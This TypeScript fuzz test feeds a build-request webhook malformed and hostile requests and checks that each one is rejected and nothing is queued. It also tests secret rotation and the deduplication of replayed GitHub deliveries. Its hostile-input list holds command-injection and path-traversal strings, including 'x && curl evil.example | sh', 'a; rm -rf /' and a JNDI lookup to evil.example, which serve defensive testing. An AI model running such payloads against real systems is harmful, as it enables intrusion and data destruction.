import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { localAzure } from "../../local/settings.js";
import { signBody } from "../../shared/webhook/signature.js";
import { startTestStack } from "../e2e/harness.js";
import { queueTotals } from "./support.js";

type Stack = Awaited<ReturnType<typeof startTestStack>>;

const secret = "whsec-current-5f1d7a2c9e8b4036";
const previousSecret = "whsec-previous-0b3e6d9a1c4f7285";
const maxBodyInBytes = 8192;
const image = "ubuntu-2404";
const sha = (c: string) => c.repeat(40).slice(0, 40);

/** One request to the webhook, and the statuses it may get. */
interface HostileRequest {
  what: string;
  headers: Record<string, string>;
  body: Uint8Array;
  query?: string;
  expected: number[];
}

const encode = (text: string) => new TextEncoder().encode(text);
const signed = (body: Uint8Array, key = secret) => ({ "x-hub-signature-256": signBody(body, key) });
const json = { "content-type": "application/json" };

/** Printable ASCII (what HTTP header values may carry), with path and shell metacharacters well represented. */
const metacharacters = [..."/\\.;|&$`'\"<>(){}[]*?!~#%^=+, \t"];
const hostileText = (maxLength: number) =>
  fc.oneof(
    fc.string({ unit: fc.constantFrom(...metacharacters, "a", "1", "-"), minLength: 1, maxLength }),
    fc.constantFrom(
      "../../etc/passwd",
      "..\\..\\windows\\system32",
      "$(id)",
      "`reboot`",
      "a; rm -rf /",
      "x && curl evil.example | sh",
      "%2e%2e%2f",
      "image\u0000name",
      "ubuntu-2404/../windows-2022",
      "${jndi:ldap://evil.example/a}",
    ),
  );
/** What fetch lets through as a header value (no control characters). */
const headerText = (maxLength: number) => hostileText(maxLength).filter((s) => /^[\x20-\x7e\t]*$/.test(s));
/** Strings that cannot be a catalog image name (the name rule: a letter or digit, then letters, digits, . _ -). */
const badImageName = fc.oneof(
  hostileText(64).filter((s) => !/^[A-Za-z0-9][A-Za-z0-9._-]*$/.test(s)),
  fc.string({ minLength: 81, maxLength: 5000 }),
  fc.constant(""),
);
/** A well-formed name that no catalog entry has. */
const unknownImageName = fc
  .stringMatching(/^[a-z][a-z0-9-]{2,30}$/)
  .filter((s) => !["ubuntu-2404", "windows-2022"].includes(s));
const notAString = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.object({ maxDepth: 1 }),
);

/** A generic build request that is wrong in exactly one way, signed correctly. */
const invalidGenericRequest: fc.Arbitrary<HostileRequest> = fc
  .oneof(
    fc.record({ field: fc.constant("image"), value: fc.oneof(notAString, badImageName) }),
    fc.record({
      field: fc.constant("commit"),
      value: fc.oneof(
        notAString,
        hostileText(80).filter((s) => !/^[0-9a-f]{7,64}$/i.test(s)),
        fc.string({ minLength: 65, maxLength: 3000 }),
      ),
    }),
    fc.record({
      field: fc.constant("ref"),
      value: fc.oneof(notAString, fc.constant(""), fc.string({ minLength: 256, maxLength: 4000 })),
    }),
    fc.record({ field: fc.constant("reason"), value: fc.oneof(notAString, hostileText(20)) }),
    fc.record({
      field: fc.constant("requestedBy"),
      value: fc.oneof(
        notAString,
        hostileText(40).filter((s) => !/^[\w.@:/ -]+$/.test(s)),
        fc.string({ minLength: 129, maxLength: 2000 }),
      ),
    }),
    fc.record({ field: fc.constant("force"), value: fc.oneof(fc.integer(), fc.string(), fc.constant(null)) }),
    fc.record({
      field: fc
        .stringMatching(/^[a-zA-Z_$][\w$]{0,20}$/)
        .filter(
          (k) => !["image", "commit", "ref", "reason", "requestedBy", "force"].includes(k) && !k.startsWith("__"),
        ),
      value: fc.jsonValue(),
    }),
  )
  .map(({ field, value }) => {
    const body = encode(JSON.stringify({ image, commit: sha("ab12"), [field]: value }));
    const known = ["image", "commit", "ref", "reason", "requestedBy", "force"].includes(field);
    return {
      what: known ? `generic request with a bad ${field}` : "generic request with an unknown field",
      headers: { ...json, ...signed(body) },
      body,
      expected: [400],
    };
  });

const requestForUnknownImage: fc.Arbitrary<HostileRequest> = unknownImageName.map((name) => {
  const body = encode(JSON.stringify({ image: name, commit: sha("cd34") }));
  return {
    what: "request for an image not in the catalog",
    headers: { ...json, ...signed(body) },
    body,
    expected: [404],
  };
});

const notAnObject: fc.Arbitrary<HostileRequest> = fc
  .oneof(
    fc.integer(),
    fc.string({ maxLength: 100 }),
    fc.constant(null),
    fc.array(fc.jsonValue(), { maxLength: 5 }),
    fc.boolean(),
  )
  .map((value) => {
    const body = encode(JSON.stringify(value));
    return { what: "JSON that is not an object", headers: { ...json, ...signed(body) }, body, expected: [400] };
  });

const badJson: fc.Arbitrary<HostileRequest> = fc
  .oneof(
    fc.string({ maxLength: 200 }),
    fc.jsonValue().map((v) => JSON.stringify({ image, v }).slice(0, -1)),
    fc.constantFrom(
      "{",
      "{'image': 'ubuntu-2404'}",
      '{"image": "ubuntu-2404",}',
      "\uFEFF",
      "NaN",
      '{"image": undefined}',
    ),
    fc.uint8Array({ minLength: 1, maxLength: 300 }).map((b) => Buffer.from(b).toString("latin1")),
  )
  .filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  })
  .map((text) => {
    const body = encode(text);
    return { what: "a body that is not JSON", headers: { ...json, ...signed(body) }, body, expected: [400] };
  });

/** A valid request (it would be built!) with a missing, malformed or wrong signature. */
const badSignature: fc.Arbitrary<HostileRequest> = fc
  .record({
    commit: fc.stringMatching(/^[0-9a-f]{40}$/),
    signature: fc.oneof(
      fc.constant(undefined),
      fc.constant(""),
      headerText(80),
      fc.stringMatching(/^[0-9a-f]{64}$/).map((h) => `sha256=${h}`),
      fc.stringMatching(/^[0-9a-f]{40}$/).map((h) => `sha1=${h}`),
      fc.string({ minLength: 1, maxLength: 40 }).map((other) => ({ wrongKey: `${other}-not-the-secret` })),
      fc.integer({ min: 1, max: 63 }).map((cut) => ({ truncate: cut })),
      fc.constant({ otherBody: true }),
    ),
  })
  .map(({ commit, signature }) => {
    const body = encode(JSON.stringify({ image, commit }));
    let header: string | undefined;
    if (typeof signature === "string" || signature === undefined) header = signature;
    else if ("wrongKey" in signature) header = signBody(body, signature.wrongKey);
    else if ("truncate" in signature) header = signBody(body, secret).slice(0, "sha256=".length + signature.truncate);
    else header = signBody(encode(JSON.stringify({ image, commit: sha("ee") })), secret);
    return {
      what: "a valid request with a bad signature",
      headers: { ...json, ...(header === undefined ? {} : { "x-hub-signature-256": header }) },
      body,
      expected: [401],
    };
  });

const wrongContentType: fc.Arbitrary<HostileRequest> = fc
  .oneof(
    fc.constantFrom(
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/jsonp",
      "application/xml",
      "text/json",
      "application/octet-stream",
    ),
    headerText(60).filter((t) => t.split(";")[0]!.trim().toLowerCase() !== "application/json"),
    fc.constant(undefined),
  )
  .map((contentType) => {
    const body = encode(JSON.stringify({ image, commit: sha("f00d") }));
    return {
      what: "a valid, signed request with the wrong content type",
      headers: { ...(contentType === undefined ? {} : { "content-type": contentType }), ...signed(body) },
      body,
      expected: [415],
    };
  });

const oversized: fc.Arbitrary<HostileRequest> = fc
  .record({ extra: fc.integer({ min: 1, max: 3 * maxBodyInBytes }), sign: fc.boolean(), valid: fc.boolean() })
  .map(({ extra, sign, valid }) => {
    const text = valid
      ? JSON.stringify({ image, commit: sha("0a"), requestedBy: "a".repeat(maxBodyInBytes + extra) })
      : "x".repeat(maxBodyInBytes + extra);
    const body = encode(text);
    return { what: "an oversized body", headers: { ...json, ...(sign ? signed(body) : {}) }, body, expected: [413] };
  });

/** GitHub deliveries: garbage event names, garbage payloads for real events, hostile `image` parameters. */
const hostileGitHubDelivery: fc.Arbitrary<HostileRequest> = fc.oneof(
  fc
    .record({
      event: headerText(60).filter((e) => !/^[a-z_]+$/.test(e.trim()) && e.trim() !== ""),
      sign: fc.boolean(),
      payload: fc.jsonValue(),
    })
    .map(({ event, sign, payload }) => {
      const body = encode(JSON.stringify(payload ?? {}));
      return {
        what: "a GitHub delivery with a garbage event name",
        headers: {
          ...json,
          "x-github-event": event,
          "x-github-delivery": crypto.randomUUID(),
          ...(sign ? signed(body) : {}),
        },
        body,
        query: `?image=${image}`,
        expected: sign ? [400] : [401],
      };
    }),
  fc
    .record({
      event: fc.constantFrom("push", "release", "workflow_run"),
      payload: fc.oneof(
        fc.jsonValue(),
        fc.record({
          ref: fc.oneof(notAString, fc.string({ minLength: 256, maxLength: 600 })),
          after: fc.constant(sha("1")),
        }),
        fc.record({ ref: fc.constant("refs/heads/main"), after: fc.oneof(notAString, hostileText(40)) }),
        fc.record({
          action: fc.constant("published"),
          release: fc.oneof(
            notAString,
            fc.record({
              tag_name: fc.oneof(notAString, fc.constant(""), fc.string({ minLength: 256, maxLength: 400 })),
            }),
          ),
        }),
        fc.record({
          action: fc.constant("completed"),
          workflow_run: fc.oneof(
            notAString,
            fc.record({ head_sha: hostileText(40), conclusion: fc.constant("success") }),
          ),
        }),
      ),
      delivery: headerText(60),
    })
    .filter(({ event, payload }) => !isBuildableDelivery(event, payload))
    .map(({ event, payload, delivery }) => {
      const body = encode(JSON.stringify(payload));
      return {
        what: `a signed ${event} delivery with a garbage payload`,
        headers: { ...json, "x-github-event": event, "x-github-delivery": delivery, ...signed(body) },
        body,
        query: `?image=${image}`,
        expected: [400],
      };
    }),
  fc.record({ name: fc.oneof(badImageName, unknownImageName) }).map(({ name }) => {
    const body = encode(JSON.stringify({ ref: "refs/heads/main", after: sha("9") }));
    return {
      what: "a signed push naming a bad or unknown image",
      headers: { ...json, "x-github-event": "push", "x-github-delivery": crypto.randomUUID(), ...signed(body) },
      body,
      query: `?image=${encodeURIComponent(name)}`,
      expected: [400, 404],
    };
  }),
);

/** True when a generated GitHub payload would (rightly) be built: the fuzzer must not count it as hostile. */
function isBuildableDelivery(event: string, payload: unknown): boolean {
  if (typeof payload !== "object" || payload === null || Array.isArray(payload)) return false;
  const p = payload as {
    ref?: unknown;
    after?: unknown;
    action?: unknown;
    release?: { tag_name?: unknown };
    workflow_run?: { head_sha?: unknown };
  };
  if (event === "push") return typeof p.ref === "string" && /^[0-9a-f]{40}$/.test(String(p.after));
  if (event === "release") return typeof p.action === "string" && typeof p.release?.tag_name === "string";
  if (event === "workflow_run")
    return typeof p.action === "string" && /^[0-9a-f]{40}$/.test(String(p.workflow_run?.head_sha));
  return false;
}

const hostileRequest = fc.oneof(
  invalidGenericRequest,
  requestForUnknownImage,
  notAnObject,
  badJson,
  badSignature,
  wrongContentType,
  oversized,
  hostileGitHubDelivery,
);

describe("the webhook, through the local host, with WEBHOOK_SECRET set", () => {
  let stack: Stack;
  const send = async (request: { headers: Record<string, string>; body: Uint8Array; query?: string }) => {
    const response = await fetch(`${stack.host.url}/api/builds${request.query ?? ""}`, {
      method: "POST",
      headers: { "x-functions-key": localAzure.functionKey, ...request.headers },
      body: request.body,
    });
    const text = await response.text();
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- responses are read loosely, by path
    let body: any;
    try {
      body = JSON.parse(text);
    } catch {
      body = text;
    }
    return { status: response.status, contentType: response.headers.get("content-type") ?? "", body };
  };

  beforeAll(async () => {
    stack = await startTestStack({
      // Only the HTTP functions: whatever the webhook enqueues stays in the queue, visible.
      functions: (f) => f.trigger === "http",
      overrides: {
        WEBHOOK_SECRET: secret,
        WEBHOOK_SECRET_PREVIOUS: previousSecret,
        WEBHOOK_MAX_BODY_IN_BYTES: String(maxBodyInBytes),
      },
    });
  });
  afterAll(async () => {
    await stack?.dispose();
  });

  it("answers 500+ malformed or hostile requests with a 4xx JSON error, enqueues nothing, and keeps serving", async () => {
    const before = queueTotals(stack.serviceBus);
    let sent = 0;
    const seen = new Map<string, number>();
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(hostileRequest, async (request) => {
        const response = await send(request);
        sent++;
        seen.set(request.what, (seen.get(request.what) ?? 0) + 1);
        expect(request.expected, `${request.what}: ${JSON.stringify(response.body)}`).toContain(response.status);
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
        expect(response.contentType).toMatch(/^application\/json/);
        expect(response.body).toEqual({
          error: expect.objectContaining({ code: expect.any(String), message: expect.any(String) }),
        });
        const totals = queueTotals(stack.serviceBus);
        expect(totals.pending + totals.deadLettered, `${request.what} enqueued a message`).toBe(
          before.pending + before.deadLettered,
        );
      }),
      { numRuns: 600 },
    );
    console.info(
      `[reliability] webhook fuzz: ${sent} hostile requests (${[...seen].map(([w, n]) => `${n} ${w}`).join("; ")}); ` +
        `answers ${[...statuses].map(([status, n]) => `${status}×${n}`).join(", ")}; 0 enqueued`,
    );

    const body = encode(JSON.stringify({ image, commit: sha("5eed") }));
    const valid = await send({ headers: { ...json, ...signed(body) }, body });
    expect(valid.status).toBe(202);
    // One build request (its BuildRequested event goes to the events queue, which the host publishes from).
    const requests = (totals: ReturnType<typeof queueTotals>) => {
      const q = totals.byQueue["build-requests"]!;
      return q.active + q.scheduled + q.deferred;
    };
    expect(requests(queueTotals(stack.serviceBus))).toBe(requests(before) + 1);
  }, 120_000);

  it("accepts both secrets during a rotation, and no other", async () => {
    const body = encode(JSON.stringify({ image, commit: sha("7ab1") }));
    const withCurrent = await send({ headers: { ...json, ...signed(body) }, body });
    const withPrevious = await send({ headers: { ...json, ...signed(body, previousSecret) }, body });
    const withOther = await send({ headers: { ...json, ...signed(body, "whsec-retired-a9c8e7d6") }, body });
    expect([withCurrent.status, withPrevious.status, withOther.status]).toEqual([202, 202, 401]);
    expect(withOther.body).toEqual({ error: expect.objectContaining({ code: "InvalidSignature" }) });
    // A signature is over the exact bytes: one changed character fails it.
    const tampered = encode(JSON.stringify({ image, commit: sha("7ab2") }));
    expect((await send({ headers: { ...json, ...signed(body) }, body: tampered })).status).toBe(401);
  });

  it("names the offending field of a schema error, and answers 404 for an unknown image", async () => {
    const badCommit = encode(JSON.stringify({ image, commit: "not-a-commit" }));
    const schema = await send({ headers: { ...json, ...signed(badCommit) }, body: badCommit });
    expect(schema.status).toBe(400);
    expect(schema.body.error).toMatchObject({ code: "InvalidRequest", target: "commit" });
    expect(schema.body.error.message).toMatch(/^commit: /);
    const unknown = encode(JSON.stringify({ image: "debian-13", commit: sha("12") }));
    const missing = await send({ headers: { ...json, ...signed(unknown) }, body: unknown });
    expect(missing.status).toBe(404);
    expect(missing.body.error).toMatchObject({ code: "UnknownImage", target: "image" });
  });

  it("builds a replayed GitHub delivery once: the build id comes from image and commit, not the delivery id", async () => {
    const before = stack.serviceBus.stats("build-requests").active;
    const push = encode(JSON.stringify({ ref: "refs/heads/main", after: sha("c0ffee"), pusher: { name: "octocat" } }));
    const release = encode(JSON.stringify({ action: "published", release: { tag_name: "v2026.1.0" } }));
    const deliver = (event: string, body: Uint8Array, deliveryId: string) =>
      send({
        headers: { ...json, ...signed(body), "x-github-event": event, "x-github-delivery": deliveryId },
        body,
        query: `?image=${image}`,
      });
    const pushes = [
      await deliver("push", push, "delivery-1"),
      await deliver("push", push, "delivery-1"), // GitHub's "Redeliver"
      await deliver("push", push, "delivery-2"), // the same push, delivered again under a new id
    ];
    const releases = [await deliver("release", release, "delivery-3"), await deliver("release", release, "delivery-4")];
    for (const r of [...pushes, ...releases]) expect(r.status).toBe(202);
    expect(new Set(pushes.map((r) => r.body.buildId)).size).toBe(1);
    expect(new Set(releases.map((r) => r.body.buildId)).size).toBe(1);
    // Service Bus duplicate detection drops the repeats: one message per build.
    expect(stack.serviceBus.stats("build-requests").active).toBe(before + 2);
  });
});
